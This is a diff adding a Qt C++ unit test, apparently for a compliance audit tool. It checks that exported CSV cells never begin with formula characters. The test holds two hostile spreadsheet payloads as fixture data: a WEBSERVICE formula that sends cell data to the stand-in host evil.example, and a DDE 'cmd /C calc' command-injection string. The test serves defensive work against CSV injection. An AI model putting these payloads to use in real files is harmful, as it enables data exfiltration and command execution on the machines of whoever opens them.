@@ -13,7 +13,42 @@ class TestAuditReport : public QObject
 
 private slots:
     void reportCountsTemplatesAndFindingsOfASearch();
+    void csvCellsFromHostileValuesAreNeverFormulas();
 };
+
+namespace {
+
+// The cells of RFC 4180 text as a spreadsheet reads them (quotes removed, "" as ").
+QStringList csvCells(const QString &text)
+{
+    QStringList cells;
+    QString cell;
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text.at(i);
+        const QChar next = i + 1 < text.size() ? text.at(i + 1) : QChar();
+        if (quoted) {
+            if (c != QLatin1Char('"'))
+                cell += c;
+            else if (next == QLatin1Char('"'))
+                cell += text.at(++i);
+            else
+                quoted = false;
+        } else if (c == QLatin1Char('"') && cell.isEmpty()) {
+            quoted = true;
+        } else if (c == QLatin1Char(',') || (c == QLatin1Char('\r') && next == QLatin1Char('\n'))) {
+            cells << cell;
+            cell.clear();
+            if (c == QLatin1Char('\r'))
+                ++i;
+        } else {
+            cell += c;
+        }
+    }
+    return cells;
+}
+
+} // namespace
 
 void TestAuditReport::reportCountsTemplatesAndFindingsOfASearch()
 {
@@ -52,6 +87,28 @@ void TestAuditReport::reportCountsTemplatesAndFindingsOfASearch()
     QVERIFY(text.contains(QStringLiteral("Audit report")));
     QVERIFY(text.contains(QStringLiteral("TPL-OK")));
     QVERIFY(text.contains(QStringLiteral("C-1")));
+}
+
+void TestAuditReport::csvCellsFromHostileValuesAreNeverFormulas()
+{
+    // A communication id and a template id are free text in a drop; a search may start with
+    // "-" (negation). A spreadsheet opening the CSV must show them, never run them.
+    const QString link = QStringLiteral("=WEBSERVICE(\"evil.example?q=\"&A1)"); // no "/": the id names a file in the drop
+    const QString sum = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+    ComplianceFixture f;
+    f.add(link, QStringLiteral("2026-02-01T00:00:00Z"),
+          QJsonObject{{QStringLiteral("template"), QJsonObject{{QStringLiteral("id"), sum}, {QStringLiteral("version"), QStringLiteral("1")}}}});
+    f.import();
+    const compliance::AuditReport report = compliance::AuditReport::build(f.writer, QStringLiteral("-status:bounced"));
+    QVERIFY2(report.error.isEmpty(), qPrintable(report.error));
+    QCOMPARE(report.findings.findings.size(), 1); // the unknown template version, on the hostile id
+
+    const QStringList cells = csvCells(QString::fromUtf8(report.csv()));
+    for (const QString &cell : cells)
+        QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()), qPrintable(cell));
+    QVERIFY(cells.contains(QLatin1Char('\'') + link));
+    QVERIFY(cells.contains(QStringLiteral("'") + sum + QStringLiteral(" v1")));
+    QVERIFY(cells.contains(QStringLiteral("'-status:bounced")));
 }
 
 QTEST_MAIN(TestAuditReport)
